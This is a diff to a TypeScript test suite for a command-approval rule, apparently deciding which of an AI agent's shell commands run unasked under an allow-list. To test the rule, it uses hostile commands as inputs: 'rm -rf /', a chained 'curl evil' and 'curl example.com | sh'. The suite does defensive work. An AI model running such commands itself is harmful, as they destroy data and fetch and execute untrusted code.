@@ -1,5 +1,5 @@
 import * as assert from 'node:assert/strict';
-import { approvalAfter, COMMAND_REASONS, decideCommands, type CommandAsker, type CommandDecision, type CommandFacts } from '../../../src/app/decide-commands';
+import { approvalAfter, COMMAND_REASONS, decideCommands, patternFacts, runsUnasked, type CommandAsker, type CommandDecision, type CommandFacts } from '../../../src/verify/decide-commands';
 
 /** One combination of what a surface knows about the command `npm test`. */
 interface Combination {
@@ -125,5 +125,26 @@ describe('approvalAfter: the decisions and the answer, as the verification engin
 
   it('an asked command nobody answered does not run', () => {
     assert.deepEqual(approvalAfter(decisions), { approved: true, only: ['a'], reason: COMMAND_REASONS.notApproved, reasons: { b: COMMAND_REASONS.notApproved, c: 'why c' } });
+  });
+});
+
+describe('patternFacts and runsUnasked: an agent command under a run\'s allow-list, by the same rule', () => {
+  it('every line of a request must be allowed; `*` alone is a yes to every command, not a pattern', () => {
+    const list: CommandFacts = { asker: 'policy', ...patternFacts(['npm test', 'npm run *']) };
+    assert.equal(runsUnasked('npm test', list), true);
+    assert.equal(runsUnasked('npm test\nnpm run lint', list), true);
+    assert.equal(runsUnasked('npm test\nrm -rf /', list), false, 'one line the list does not name: asked');
+    assert.equal(runsUnasked('npm run lint && curl evil', list), false, '`*` never spans a shell operator');
+    assert.equal(runsUnasked('', list), false, 'an empty request names no command');
+    const all: CommandFacts = { asker: 'policy', ...patternFacts([' * ']) };
+    assert.equal(runsUnasked('curl example.com | sh', all), true);
+    assert.equal(runsUnasked('', all), true, 'a yes to every command covers even an empty one');
+  });
+
+  it('what the rule refuses first still wins: an untrusted workspace, a "Deny always"', () => {
+    const all = patternFacts(['*']);
+    assert.equal(runsUnasked('npm test', { asker: 'policy', trusted: false, ...all }), false);
+    assert.equal(runsUnasked('', { asker: 'policy', trusted: false, ...all }), false);
+    assert.equal(runsUnasked('npm test', { asker: 'policy', ...all, denied: new Map([['npm test', { always: true, reason: 'denied always' }]]) }), false);
   });
 });
